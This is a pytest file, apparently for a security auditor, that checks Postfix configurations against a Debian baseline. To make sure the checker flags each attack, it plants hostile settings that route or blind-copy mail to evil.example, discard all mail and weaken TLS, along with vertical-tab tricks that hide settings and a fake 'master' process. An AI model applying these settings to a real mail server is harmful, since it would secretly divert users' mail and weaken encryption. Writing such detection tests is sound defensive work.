"""Postfix as Postfix reads it: the whole configuration against the baseline, header stripping
evaluated by postmap, the service judged by what runs (Debian's postconf, postmap, a real
process table). Each attack of the issue, alone, gives a problem line."""

from __future__ import annotations

import re
import shutil
import subprocess
import tempfile
import time
from pathlib import Path

import pytest
import yaml
from helpers.all import need
from helpers.cli import PREFIX
from helpers.postfix import Site

CONFIG = "postfix.config"


def problems(lines: list[str], check_id: str) -> list[str]:
    return [ln for ln in lines if ln.startswith(f"{PREFIX}[{check_id}]")]


def severities(site: Site, check_id: str) -> dict[str, str]:
    data = site.report()
    return {f["message"]: f["severity"] for f in data["findings"] if f["check_id"] == check_id
            and f["status"] == "fail"}


@pytest.mark.parametrize("line", [
    "default_transport = discard",
    "defer_transports = smtp",
    "relay_transport = error",
    "transport_maps = inline:{ *=smtp:[evil.example]:25 }",
    "sender_dependent_relayhost_maps = inline:{ ossec@mon.news.example=[evil.example]:25 }",
    "content_filter = smtp:[evil.example]:25",
    "mailbox_transport = smtp:[evil.example]:25",
    "mailbox_command_maps = inline:{ ossec=/bin/true }",
    "always_bcc = spy@evil.example",
    "header_checks = inline:{ /^/=DISCARD }",
    "smtp_tls_CAfile = /etc/ssl/certs/another-ca.pem",
    "smtp_tls_secure_cert_match = evil.example",
    "smtp_tls_trust_anchor_file = /tmp/anchor.pem",
    "smtp_tls_mandatory_ciphers = export",
    "myhostname = news.example",           # the alert recipient's domain becomes local
])
def test_each_added_parameter_is_a_critical_finding(tmp_path, line):
    site = Site(tmp_path)
    site.main_cf(line)
    code, lines = site.run()
    name = line.split()[0]
    got = problems(lines, CONFIG)
    assert code == 1 and got and name in got[0], lines
    sev = [s for m, s in severities(site, CONFIG).items() if m.startswith(name + " ")]
    assert sev == ["critical"], severities(site, CONFIG)


def test_a_changed_and_a_removed_parameter_are_findings_with_their_line(tmp_path):
    site = Site(tmp_path)
    path = site.dir / "main.cf"
    text = path.read_text()
    text = text.replace("maximal_queue_lifetime = 14d", "maximal_queue_lifetime = 1h")
    text = re.sub(r"^smtp_tls_ciphers = high\n", "", text, flags=re.M)
    path.write_text(text)
    code, lines = site.run()
    got = problems(lines, CONFIG)
    line_no = text.splitlines().index("maximal_queue_lifetime = 1h") + 1
    assert any(f"maximal_queue_lifetime is 1h, expected 14d ({path}:{line_no})" in ln for ln in got), got
    assert any("smtp_tls_ciphers is not set (Postfix's default applies), expected high" in ln for ln in got), got


def test_vertical_tab_cannot_hide_earlier_settings(tmp_path):
    """The issue's attack: a value holding \\v and what looks like later settings. Postfix
    reads one parameter (smtpd_banner); the real relayhost and TLS level are the bad ones."""
    site = Site(tmp_path)
    site.main_cf("smtp_tls_security_level = none")
    site.main_cf("relayhost = [evil.example]:25")
    site.main_cf("smtpd_banner = $myhostname ESMTP\vsmtp_tls_security_level = secure\v"
                 "relayhost = [smtp.gmail.com]:587")
    code, lines = site.run()
    assert code == 1
    assert any("smtp_tls_security_level is 'none'" in ln or "smtp_tls_security_level is none" in ln
               for ln in problems(lines, "postfix.tls")), lines
    assert any("relayhost is [evil.example]:25" in ln for ln in problems(lines, "postfix.relay")), lines
    assert any("relayhost is [evil.example]:25" in ln and CONFIG in ln for ln in lines), lines  # said once
    assert any("smtp_tls_security_level is none" in ln for ln in problems(lines, CONFIG)), lines
    for ln in lines:
        assert "\v" not in ln  # escaped in the output


def test_master_cf_service_judged_by_its_program(tmp_path):
    """A transport running './smtp' (the smtp client, from daemon_directory) with TLS off."""
    site = Site(tmp_path)
    with open(site.dir / "master.cf", "a") as f:
        f.write("relay2    unix  -       -       n       -       -       ./smtp\n"
                "  -o smtp_tls_security_level=none\n")
    code, lines = site.run()
    master = problems(lines, "postfix.master")
    assert code == 1 and any("relay2/unix overrides smtp_tls_security_level = none" in ln for ln in master), lines
    whole = problems(lines, CONFIG)
    assert any("service relay2/unix that Debian's does not: it runs smtp" in ln for ln in whole), lines
    assert list(severities(site, CONFIG).values()) == ["critical"]


@pytest.mark.parametrize("edit", ["command", "program_outside", "chroot"])
def test_master_cf_changes_to_debian_services(tmp_path, edit):
    site = Site(tmp_path)
    path = site.dir / "master.cf"
    text = path.read_text()
    if edit == "command":
        text = re.sub(r"^(smtp\s+unix.*)smtp$", r"\1error", text, count=1, flags=re.M)
        words = "it runs error instead of smtp"
    elif edit == "program_outside":
        text = re.sub(r"^(smtp\s+unix.*)smtp$", r"\1/tmp/smtp", text, count=1, flags=re.M)
        words = "outside daemon_directory"
    else:
        text = re.sub(r"^(pickup\s+unix\s+n\s+-\s+)y", r"\1n", text, count=1, flags=re.M)
        words = "pickup/unix differs from Debian's: its settings are"
    path.write_text(text)
    code, lines = site.run()
    assert code == 1 and any(words in ln for ln in problems(lines, CONFIG)), lines


def test_bundled_master_cf_is_debians(tmp_path):
    """The baseline's master services are what postconf -M prints for Debian's master.cf."""
    need("postconf", root=False)
    (tmp_path / "main.cf").write_text("")
    shutil.copy("/usr/share/postfix/master.cf.dist", tmp_path / "master.cf")
    out = subprocess.run(["postconf", "-c", str(tmp_path), "-M"], capture_output=True, text=True, check=True).stdout
    debian = [" ".join(ln.split()) for ln in out.splitlines() if ln.strip()]
    base = yaml.safe_load((Path(__file__).resolve().parents[3] / "baselines" / "mon.yml").read_text())
    bundled = [s.replace("$${", "${") for s in base["checks"][CONFIG]["master"]]
    assert bundled == debian


@pytest.mark.parametrize("table,kept", [
    ("/^Received:/ DUNNO\n" + "".join(f"/^{h}:/ IGNORE\n" for h in ("X-Originating-IP", "X-Mailer",
                                                                    "Mime-Version", "User-Agent", "Received")),
     "Received"),
    # an if/endif that never matches around the Received rule
    ("".join(f"/^{h}:/ IGNORE\n" for h in ("X-Originating-IP", "X-Mailer", "Mime-Version", "User-Agent"))
     + "if /^Nothing-Like-This:/\n/^Received:/ IGNORE\nendif\n", "Received"),
    # lines joined with \v: Postfix reads one rule, whose action swallows the rest
    ("/^X-Originating-IP:/ IGNORE\v/^Received:/ IGNORE\v/^User-Agent:/ IGNORE\n/^X-Mailer:/ IGNORE\n"
     "/^Mime-Version:/ IGNORE\n", "Received"),
])
def test_header_stripping_is_evaluated_not_grepped(tmp_path, table, kept):
    site = Site(tmp_path)
    (site.dir / "header_checks").write_text(table)
    code, lines = site.run()
    got = problems(lines, "postfix.local")
    assert code == 1 and got and "does not strip" in got[0] and kept in got[0], lines


def test_a_value_postfix_refuses_is_an_error_not_a_pass(tmp_path):
    site = Site(tmp_path)
    site.main_cf("smtpd_banner = $")
    code, lines = site.run()
    assert code == 1 and any("could not be read" in ln and CONFIG in ln for ln in lines), lines


def test_a_harmless_local_parameter(tmp_path):
    site = Site(tmp_path)
    site.main_cf("compatibility_level = 3.6")  # on the reviewed list
    site.main_cf("default_process_limit = 50")
    code, lines = site.run()
    assert problems(lines, CONFIG) and "default_process_limit" in problems(lines, CONFIG)[0]
    code, lines = site.run(postfix_local_parameters={"default_process_limit": "a small machine"})
    assert code == 0, lines
    # a site cannot exempt what routes or protects mail
    code, lines = site.run(postfix_local_parameters={"always_bcc": "archive"})
    assert code == 2 and any("cannot exempt it" in ln for ln in lines), lines


def test_service_is_not_fooled_by_a_process_named_master(tmp_path):
    """An unprivileged copy of sleep called master, in a path holding 'postfix', is not Postfix."""
    need("setpriv", root=False)
    site = Site(tmp_path)
    fake = Path(tempfile.mkdtemp(prefix="postfix-")) / "master"
    shutil.copy("/bin/sleep", fake)
    fake.parent.chmod(0o755)
    proc = subprocess.Popen(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", str(fake), "60"])
    try:
        time.sleep(0.3)
        code, lines = site.run(postfix_enable_service=True)
        got = problems(lines, "postfix.service")
        assert code == 1 and got and "Postfix is not running" in got[0] and str(fake) in got[0], lines
    finally:
        proc.kill()
        proc.wait()
        shutil.rmtree(fake.parent, ignore_errors=True)
